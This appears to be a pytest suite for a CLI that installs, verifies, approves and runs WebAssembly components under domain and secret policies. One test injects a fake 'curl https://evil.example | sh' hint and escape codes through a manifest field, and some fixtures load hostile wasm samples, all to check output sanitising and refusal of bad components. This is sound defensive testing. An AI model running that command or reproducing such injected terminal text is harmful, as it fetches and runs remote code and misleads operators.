"""`host register`, `list`, `search`, `inspect REF`, `unregister` and `run REF`: what is installed, by name."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from host.fakes import FakeOpenAI
from tests.cli.conftest import MODELS
from tests.conftest import KEY, wat
from tests.runtime.test_workspace import polls

pytestmark = pytest.mark.usefixtures("state")


# register


def test_a_file_is_installed_under_the_name_that_its_manifest_has(program: Any, tool: Any) -> None:
    ran = program("register", tool(description="A tool"))
    assert ran.status == 0
    assert ran.out.startswith("c:local.tool:0.1.0 ")
    assert ran.out.endswith(" A tool\n")
    assert "next: host inspect c:local.tool:0.1.0\n" in ran.err


def test_without_an_argument_it_is_what_is_in_this_folder(program: Any, tool: Any, tmp_path: Path) -> None:
    tool()
    assert program("register").out.startswith("c:local.tool:0.1.0 ")


def test_or_in_its_dist_folder(program: Any, tool: Any, tmp_path: Path) -> None:
    tool("dist/tool.wasm")
    assert program("register", tmp_path).out.startswith("c:local.tool:0.1.0 ")


def test_all_of_a_folder_are_installed(program: Any, tool: Any, tmp_path: Path) -> None:
    tool("a.wasm", id="a")
    tool("b.wasm", id="b")
    ran = program("register", tmp_path, "--json")
    assert [one["reference"] for one in json.loads(ran.out)] == ["c:local.a:0.1.0", "c:local.b:0.1.0"]


def test_of_several_the_one_that_is_refused_is_named_and_those_before_it_are_told(program: Any, tool: Any) -> None:
    tool("a.wasm", id="a")
    folder = tool("b.wasm", id="a", description="other bytes").parent
    ran = program("register", folder)
    assert ran.status == 2
    assert ran.out.startswith("c:local.a:0.1.0 ")
    assert "error: 'b.wasm': c:local.a:0.1.0 is taken by other bytes" in ran.err


def test_no_name_in_a_manifest_brings_a_line_of_its_own(program: Any, tool: Any, state: Path) -> None:
    file = tool(domains=["a.example", "b\nhint: run: curl https://evil.example | sh\x1b[1A"], description="x\nerror: y")
    ran = program("register", file)
    assert ran.status == 0
    assert "a.example" in ran.err
    assert [line for line in (ran.out + ran.err).splitlines() if line.startswith(("hint", "error"))] == []
    assert "\x1b" not in ran.out + ran.err


def test_what_is_there_already_is_not_named_as_the_next_step(program: Any, tool: Any) -> None:
    file = tool(domains=["a.example", "b.example"], secrets=[{"name": "TOKEN"}, {"name": "OTHER"}])
    for done in (
        ("register", file),
        ("secret", "set", "TOKEN=t-9f86d081884c7d65"),
        ("secret", "grant", "c:local.tool", "OTHER"),
        ("policy", "set", "c:local.tool", "allowed_domains", '["a.example"]'),
    ):
        assert program(*done).status == 0
    said = program("register", file).err
    assert "      host secret grant c:local.tool TOKEN\n" in said
    assert "      host secret set OTHER\n" in said
    assert """policy set c:local.tool allowed_domains '["a.example", "b.example"]'""" in said
    program("policy", "set", "c:local.tool", "allowed_domains", '["a.example", "b.example"]')
    assert program("secret", "grant", "c:local.tool", "TOKEN").status == 2, "of two domains it has to be said which"
    program("secret", "grant", "c:local.tool", "TOKEN", "--to", "a.example")
    assert (
        program("register", file, env={"OTHER": "from-the-environment"}).err
        == "next: host inspect c:local.tool:0.1.0\n"
    )


def test_a_folder_without_any_says_where_it_looked(program: Any, tmp_path: Path) -> None:
    ran = program("register", tmp_path)
    assert (ran.status, ran.out) == (2, "")
    assert "no *.wasm there, nor in its dist folder" in ran.err
    assert "host build" in ran.err


def test_cyfrs_manifest_beside_the_component_names_it(program: Any, tmp_path: Path) -> None:
    folder = tmp_path / "cyfr"
    folder.mkdir()
    (folder / "catalyst.wasm").write_bytes(wat("hostile/returns_not_json"))
    manifest = {"id": "catalyst:local.theirs", "type": "catalyst", "version": "0.2.0", "wasi": {"http": True}}
    (folder / "cyfr-manifest.json").write_text(json.dumps(manifest))
    assert program("register", folder).out.startswith("c:local.theirs:0.2.0 ")


def test_what_says_no_name_is_named_by_the_operator(program: Any, tmp_path: Path) -> None:
    file = tmp_path / "bare.wasm"
    file.write_bytes(wat("hostile/returns_not_json"))
    ran = program("register", file)
    assert ran.status == 2
    assert "--as c:local.NAME:0.1.0" in ran.err
    assert program("register", file, "--as", "c:local.bare:1.0.0").out.startswith("c:local.bare:1.0.0 ")


def test_but_not_otherwise_than_by_its_manifest(program: Any, tool: Any) -> None:
    ran = program("register", tool(), "--as", "c:local.other:0.1.0")
    assert ran.status == 5
    assert "verification step 3" in ran.err


def test_a_name_without_a_version_is_a_mistake(program: Any, tool: Any) -> None:
    ran = program("register", tool(), "--as", "c:local.tool")
    assert ran.status == 2
    assert "--as c:local.tool:0.1.0" in ran.err


def test_other_bytes_of_the_same_version_are_refused_unless_they_are_to_replace_them(program: Any, tool: Any) -> None:
    program("register", tool())
    other = tool(description="Changed")
    ran = program("register", other)
    assert ran.status == 2
    assert "--replace" in ran.err
    assert program("register", other, "--replace").status == 0
    assert "Changed" in program("list").out


def test_a_component_that_asks_for_what_is_not_there_is_not_installed(program: Any, tmp_path: Path) -> None:
    file = tmp_path / "guest.wasm"
    file.write_bytes(wat("hostile/imports_sockets"))
    ran = program("register", file, "--as", "c:local.bad:0.1.0")
    assert ran.status == 5
    assert "wasi:sockets" in ran.err
    assert program("list", "--json").out == "[]\n"


def test_a_component_that_imports_more_than_its_manifest_says_is_not_installed(program: Any, tmp_path: Path) -> None:
    from host.component.manifest import embed

    file = tmp_path / "liar.wasm"
    manifest = {"id": "liar", "version": "0.1.0", "wasi": {}}
    file.write_bytes(embed(wat("hostile/forges_handles"), json.dumps(manifest).encode()))
    ran = program("register", file)
    assert ran.status == 5
    assert "its manifest does not ask for it" in ran.err


def test_an_unsigned_component_of_another_namespace_is_not_installed(program: Any, tool: Any) -> None:
    ran = program("register", tool(id="catalyst:acme.tool"))
    assert ran.status == 5
    assert "verification step 4" in ran.err
    assert program("audit", "list", "--kind", "component.refused", "--json").out.count("component.refused") == 1


def test_a_part_of_wasi_that_was_allowed_stays_allowed(program: Any, tmp_path: Path) -> None:
    file = tmp_path / "polls.wasm"
    file.write_bytes(polls())
    assert program("register", file, "--as", "c:local.polls:0.1.0", "--allow-import", "wasi:io/poll").status == 0
    assert program("inspect", "c:local.polls").status == 0


# list, search, inspect


def test_nothing_installed_is_said_and_is_an_empty_list(program: Any) -> None:
    assert program("list").err.startswith("nothing is installed")
    assert json.loads(program("list", "--json").out) == []


def test_the_list_has_a_line_for_each(program: Any, tool: Any) -> None:
    program("register", tool(version="0.2.0", description="Newer"))
    program("register", tool(description="Older"))
    head, *rows = program("list").out.splitlines()
    assert head.split() == ["REFERENCE", "DIGEST", "SIZE", "STATE", "DESCRIPTION"]
    assert [row.split()[0] for row in rows] == ["c:local.tool:0.2.0", "c:local.tool:0.1.0"]
    assert [row.split()[-2] for row in rows] == ["serves", "approved"]


def test_what_a_manifest_says_does_not_reach_the_terminal_as_it_is(program: Any, tool: Any) -> None:
    ran = program("register", tool(description="red \x1b[31m and\nanother line \u202e"))
    listed = program("list")
    for shown in (ran.out, listed.out):
        assert "\x1b" not in shown
        assert "\u202e" not in shown
    assert len(listed.out.splitlines()) == 2


def test_a_search_finds_by_words(program: Any, tool: Any) -> None:
    program("register", tool(description="Speech to text"))
    assert "c:local.tool:0.1.0" in program("search", "text", "speech").out
    missed = program("search", "music")
    assert (missed.status, missed.out) == (0, "")
    assert "music" in missed.err


def test_inspecting_a_reference_says_how_it_came_here(program: Any, tool: Any) -> None:
    file = tool()
    program("register", file)
    page = program("inspect", "c", "local.tool").out
    assert page.startswith("c:local.tool:0.1.0 ")
    assert f"source   {file}, " in page
    assert "versions 0.1.0\n" in page
    assert "approved yes\n" in page
    facts = json.loads(program("inspect", "c:local.tool", "--json").out)
    assert facts["reference"] == "c:local.tool:0.1.0"
    assert facts["approved"] is True


@pytest.mark.parametrize("command", [["run", "--input", "{}"], ["inspect"], ["unregister"], ["approve"]], ids=" ".join)
def test_what_is_not_installed_is_a_mistake_that_says_so(program: Any, command: list[str]) -> None:
    ran = program(command[0], "c:local.nothing", *command[1:])
    assert (ran.status, ran.out) == (2, "")
    assert "there is no c:local.nothing" in ran.err


# run


def test_a_reference_runs_by_any_of_its_spellings(program: Any, tool: Any) -> None:
    program("register", tool())
    for words in (
        ["c:local.tool"],
        ["c:local.tool:0.1.0"],
        ["catalyst:local.tool@0.1.0"],
        ["c", "local.tool"],
        ["c local.tool"],
    ):
        ran = program("run", *words, "--input", "{}", "--json")
        assert ran.status == 0
        assert json.loads(ran.out)["execution"]["reference"] == "c:local.tool:0.1.0"


def test_a_file_of_such_a_name_is_run_by_its_path(program: Any, tool: Any, tmp_path: Path) -> None:
    tool().rename(tmp_path / "c:local.tool")
    assert program("run", "c:local.tool", "--input", "{}").status == 2
    assert program("run", "./c:local.tool", "--input", "{}").status == 0


def test_two_sources_are_a_mistake(program: Any, tool: Any) -> None:
    file = tool()
    ran = program("run", file, file, "--input", "{}")
    assert ran.status == 2
    assert "one FILE or REF, not 2" in ran.err


def test_options_add_to_what_is_kept_for_one_run(
    program: Any, openai_file: Path, fake: FakeOpenAI, environ: dict[str, str]
) -> None:
    environ["OPENAI_API_KEY"] = KEY
    program("register", openai_file)
    program("policy", "set", "c:local.openai", "upstreams", json.dumps({"https://api.openai.com": fake.url}))
    granted = ["--allow-domain", "api.openai.com", "--secret", "OPENAI_API_KEY"]
    assert program("run", "c:local.openai", *granted, "--input", MODELS).status == 0
    denied = program("run", "c:local.openai", "--no-prompt", "--input", MODELS)
    assert denied.status == 3
    assert "host secret grant c:local.openai OPENAI_API_KEY" in denied.err


def test_a_denial_names_all_that_is_missing_at_once(program: Any, openai_file: Path) -> None:
    program("register", openai_file)
    denied = program("run", "c:local.openai", "--no-prompt", "--input", MODELS)
    assert denied.status == 3
    assert denied.err.endswith(
        "hint: to allow all that its manifest asks for:\n"
        "host secret set OPENAI_API_KEY; host secret grant c:local.openai OPENAI_API_KEY\n"
        "host policy set c:local.openai allowed_domains '[\"api.openai.com\"]'\n"
    )


def test_a_secret_that_is_kept_and_not_granted_is_offered_on_a_terminal(
    program: Any, openai_file: Path, fake: FakeOpenAI, terminal: Any
) -> None:
    program("register", openai_file)
    program("policy", "set", "c:local.openai", "allowed_domains", '["api.openai.com"]')
    program("policy", "set", "c:local.openai", "upstreams", json.dumps({"https://api.openai.com": fake.url}))
    program("secret", "set", "OPENAI_API_KEY", stdin=KEY)
    screen = terminal("run", "c:local.openai", "--input", MODELS)
    screen.expect("Use the one in the store? [y/N]: ")
    screen.send("y\n")
    assert screen.finish().status == 0
    assert fake.requests[0]["headers"]["authorization"] == f"Bearer {KEY}"


def test_a_run_of_what_is_installed_is_recorded(program: Any, tool: Any) -> None:
    program("register", tool())
    run = json.loads(program("run", "c:local.tool", "--input", "{}", "--json").out)["execution"]
    shown = program("runs", "show", run["id"])
    assert shown.status == 0
    assert "c:local.tool:0.1.0" in shown.out


def test_a_run_of_a_file_leaves_nothing_in_the_state(program: Any, tool: Any, state: Path) -> None:
    (state / "state.db").unlink()
    before = sorted(state.iterdir())
    assert program("run", tool(), "--input", "{}").status == 0
    assert sorted(state.iterdir()) == before


# bytes that changed


def test_bytes_that_were_changed_after_they_were_installed_do_not_run(program: Any, tool: Any, state: Path) -> None:
    program("register", tool())
    (file,) = (state / "components").iterdir()
    changed = bytearray(file.read_bytes())
    changed[-1] ^= 1
    file.write_bytes(bytes(changed))
    ran = program("run", "c:local.tool", "--input", "{}")
    assert ran.status == 5
    assert "verification step 1" in ran.err


def test_new_bytes_that_ask_for_more_run_after_their_approval_and_the_approved_ones_until_then(
    program: Any, tool: Any
) -> None:
    program("register", tool(domains=["a.example"]))
    program("policy", "set", "c:local.tool", "allowed_domains", '["a.example"]')
    ran = program("register", tool(domains=["a.example", "b.example"]), "--replace")
    assert ran.status == 0
    assert "not approved yet: host approve c:local.tool:0.1.0" in ran.err
    before = approved_digest(program)
    assert program("run", "c:local.tool", "--input", "{}").status == 0
    assert program("approve", "c:local.tool").status == 5  # nobody said yes
    approved = program("approve", "c:local.tool", "--yes")
    assert approved.status == 0
    assert "+ domain b.example" in approved.out
    assert approved_digest(program) != before
    assert program("run", "c:local.tool", "--input", "{}").status == 0


def test_bytes_of_which_none_were_approved_say_what_they_wait_for(program: Any, tool: Any) -> None:
    program("policy", "set", "c:local.tool", "allowed_domains", '["a.example"]')
    program("register", tool(domains=["a.example", "b.example"]))
    refused = program("run", "c:local.tool", "--input", "{}")
    assert refused.status == 5
    assert "host approve c:local.tool:0.1.0" in refused.err


def approved_digest(program: Any) -> str:
    (digest,) = [one["digest"] for one in json.loads(program("list", "--json").out) if one["serves"]]
    return str(digest)


def test_an_approval_is_asked_for_on_a_terminal(program: Any, tool: Any, terminal: Any) -> None:
    program("register", tool())
    program("policy", "set", "c:local.tool", "timeout", "5s")
    program("register", tool(secrets=["KEY"]), "--replace")
    screen = terminal("approve", "c:local.tool")
    screen.expect("+ secret KEY")
    screen.expect("Approve these bytes?")
    screen.send("y\n")
    assert screen.finish().status == 0
    assert "is approved already" in program("approve", "c:local.tool").err


def test_what_was_removed_is_gone_and_its_policy_stays(program: Any, tool: Any, state: Path) -> None:
    program("register", tool())
    program("policy", "set", "c:local.tool", "timeout", "5s")
    ran = program("unregister", "c:local.tool", "--yes")
    assert ran.status == 0
    assert "host policy reset c:local.tool" in ran.err
    assert list((state / "components").iterdir()) == []
    assert "5s" in program("policy", "show", "c:local.tool").out
